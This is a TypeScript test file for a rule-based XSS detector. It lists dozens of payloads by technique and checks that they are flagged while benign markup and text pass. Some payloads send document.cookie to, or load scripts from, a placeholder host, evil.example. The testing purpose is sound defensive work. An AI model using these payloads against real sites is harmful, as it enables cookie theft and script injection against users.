// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are payloads, not templates
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { createJudge } from '../judge/judge.ts';
import type { Channel } from '../judge/types.ts';
import { ALL_RULES } from './all.ts';

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    '<script>fetch("//evil.example/"+document.cookie)</script>',
    '<ScRiPt/x>top["al"+"ert"](1)</sCriPt >',
    '"><script src=//evil.example/a.js></script>',
    '<svg><script href=data:,alert(1) />',
    '</title><script>confirm(origin)</script>',
    '<script\n>import("//evil.example/m.js")</script>',
    '%253Cscript%253Ealert(1)%253C/script%253E',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<details open ontoggle=confirm`1`>',
    '<video><source onerror="location=name">',
    '<input autofocus onfocus=eval(atob(this.id)) id=YWxlcnQoMSk=>',
    '<body onpageshow=prompt(1)>',
    '<x contenteditable onblur=alert(1)>lose focus!',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<p id=x tabindex=1 onactivate=alert(1)>',
    '<a title=">" onclick=alert(1)>x</a>',
    '<b/%0aonmouseover=alert(1)>x',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="alert(1)">',
    '<marquee onstart=alert(1)>',
    '<div popover id=x onbeforetoggle=alert(1)>',
    '<video oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>',
  ],
  'out of attributes and strings': [
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"-alert(1)-"',
    "';alert(document.domain)//",
    '\\";alert(1);//',
    "'}};alert(1);{{'",
    '`;confirm(1);`',
    "'-confirm`1`-'",
    '</textarea><img src=x onerror=alert(1)>',
    '--><svg onload=alert(1)>',
    ']]><script>alert(1)</script>',
    "'+top['ale'+'rt'](1)+'",
  ],
  addresses: [
    'javascript:alert(1)',
    'java\tscript:alert(1)',
    'JaVaScRiPt://%0aalert(1)',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=javas&Tab;cript:alert(1)>x</a>',
    '[click](javascript:alert(1))',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:text/html,<script>alert(1)</script>',
    '<form><button formaction=javascript:alert(1)>x',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<object data="data:text/html,x">',
    '<embed src=//evil.example/a.swf>',
    '<base href=//evil.example/>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href=//evil.example/a.css>',
    '<math href="javascript:alert(1)">x</math>',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1)></svg>#x">',
    'vbscript:msgbox(1)',
  ],
  'code by itself': [
    'alert(document.cookie)',
    'window["alert"](1)',
    'self[`al`+`ert`]`1`',
    '[].constructor.constructor("alert(1)")()',
    'new Function("alert(1)")()',
    'setTimeout("ale"+"rt(1)")',
    'eval(String.fromCharCode(97,108,101,114,116))',
    '[1].map.call`${alert}1`',
    '{onerror=alert}throw 1',
    '(![]+[])[+[]]+(![]+[])[+!+[]]',
    'document.location="https://evil.example/?"+document.cookie',
    'import("//evil.example/x.js")',
  ],
  'styles and the past': [
    '<div style="width:expression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">',
    '<div style="behavior:url(x.htc)">',
    '<div style="-moz-binding:url(//evil.example/x.xml#a)">',
    "<style>@import'//evil.example/x.css';</style>",
    '<div style="\\0065xpression(alert(1))">',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<bgsound src="javascript:alert(1)">',
    '<isindex action=javascript:alert(1) type=image>',
    '<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>',
    '<?import namespace="x" implementation="//evil.example/x.htc">',
  ],
  'what comes through': ['&#x000003C', '\\u003c', '&#0000060;', '<svg', '</style>', "'';!--\"<XSS>=&{()}"],
};

const HONEST: readonly string[] = [
  'Alert (high)',
  'Confirm (by phone) or print (A4)',
  'On load: 3.5 kW; on error: restart; online=yes',
  '<b>Pump 3</b> is <i>off</i>',
  '<p>Dear all,</p><ul><li>first</li><li>second</li></ul>',
  '<p style="text-align: center">Plan of the <strong>roof</strong></p>',
  '<a href="https://twin.example.org/help.html" target="_blank" rel="noopener">help</a>',
  '<img src="https://cdn.example.org/plan.png" alt="Plan" width="300">',
  '<a href="https://twin.example.org/a.html" style="color: #336699">help</a>',
  '<h2>Readings</h2><table><tr><td>kWh</td><td>3.5</td></tr></table>',
  'See ![](plan.png) and [the manual](https://example.org/manual.html#p12).',
  'Use `console.log(x)` and `alert(x)`, then open the **console**.',
  '```js\nconst total = readings.map((r) => r.kwh);\n```\nThat is all that it does.',
  'temperature < 5 && humidity > 80',
  'a<b and c>d',
  'I <3 this dashboard',
  '"Anne Script" <script.anne@example.org>',
  'The script element is written <script> and it belongs into the head of the page.',
  'Why does <iframe> not work in the description? I wanted to embed the plan.',
  'document.cookie is empty in my tests; is the cookie HttpOnly?',
  'A "javascript:" link does not work in the menu any more; since when is it blocked?',
  "location='Roof'",
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk',
];

const judge = createJudge({ rules: ALL_RULES });
after(() => judge.dispose());
const scoreOf = (text: string, channel: Channel = 'value'): number => judge.judge(text, channel)?.score ?? 0;
const said = (text: string): string => JSON.stringify(judge.judge(text, 'value')?.hits);

for (const [technique, payloads] of Object.entries(ATTACKS)) {
  test(`scripts that come by ${technique} are seen`, () => {
    // Attack: script that a page of the twin would run for whoever reads the value.
    for (const payload of payloads) assert.ok(scoreOf(payload) >= 5, `${payload} ${said(payload)}`);
  });
}

test('scripts in a polite sentence are seen', () => {
  // Attack: the value is a note, and most of it is talk.
  for (const payload of ATTACKS['event handlers'] ?? []) {
    const text = `Hello, could you please have a look at ${payload} for me? Thank you very much.`;
    assert.ok(scoreOf(text) >= 5, text);
  }
});

test('talk about pages, and markup that does nothing, passes', () => {
  for (const text of HONEST) assert.ok(scoreOf(text) < 5, `${text} ${said(text)}`);
});

test('what editors of rich text make passes in a field that is declared to hold text', () => {
  for (const text of HONEST) assert.ok(scoreOf(text, 'text') < 5, text);
});
